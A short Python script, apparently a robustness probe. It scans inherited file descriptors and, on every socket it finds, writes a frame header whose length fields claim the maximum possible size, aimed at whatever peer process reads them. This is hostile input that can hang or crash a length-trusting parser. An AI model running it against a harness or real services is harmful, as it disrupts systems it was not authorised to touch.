# A frame that says it is as long as can be.
import os, stat, struct
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode): os.write(number, struct.pack(">IQ", 2**32 - 1, 2**64 - 1))
    except OSError: pass
